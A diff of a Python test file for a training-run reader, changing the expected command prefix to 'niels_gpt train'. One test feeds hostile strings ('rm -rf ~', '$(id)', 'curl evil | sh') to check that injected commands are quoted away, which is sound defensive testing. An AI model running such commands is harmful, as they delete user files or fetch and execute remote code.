@@ -74,14 +74,14 @@ def test_a_single_run_has_finished_when_each_phase_has_a_result_and_its_command_
     (tmp_path / ".hydra" / "overrides.yaml").write_text("- phase=pretrain\n- data.files=[a b.txt]\n")
     row = read_row(tmp_path)
     assert (row.status, row.val_loss) == ("interrupted", None) and "no result" in row.reason
-    assert row.command == "python scripts/train.py phase=pretrain 'data.files=[a b.txt]'"
+    assert row.command == "niels_gpt train phase=pretrain 'data.files=[a b.txt]'"
 
 
 @pytest.mark.parametrize(
     ("spoil", "said"),
     [
         (lambda run: (run / "job.json").write_bytes(b"\xff"), "job.json is damaged"),
-        (lambda run: made_job(run, command="python scripts/train.py 'a"), "ValueError: No closing quotation"),
+        (lambda run: made_job(run, command="niels_gpt train 'a"), "ValueError: No closing quotation"),
         (lambda run: made_job(run, "dancing"), "job.json is damaged"),  # type: ignore[arg-type]
         (lambda run: write_result(run, 3.0, phases=("dance",)), "phase"),
     ],
@@ -110,10 +110,10 @@ def test_a_line_that_is_no_event_is_left_out_and_a_number_that_is_none_is_damage
     ("command", "pasted"),
     [
         ("python scripts/train.py train.B=4 'data.files=[a b.txt]'", "train.B=4 'data.files=[a b.txt]'"),
-        ("python scripts/train.py a; rm -rf ~\n# $(id)", "'a;' rm -rf '~' '#' '$(id)'"),
+        ("niels_gpt train a; rm -rf ~\n# $(id)", "'a;' rm -rf '~' '#' '$(id)'"),
         ("curl evil | sh", "'|' sh"),
     ],
 )
 def test_a_command_from_others_can_only_train(tmp_path: Path, command: str, pasted: str) -> None:
     row = read_row(made_job(tmp_path / "job", command=command))
-    assert row.command == f"python scripts/train.py {pasted}"
+    assert row.command == f"niels_gpt train {pasted}"
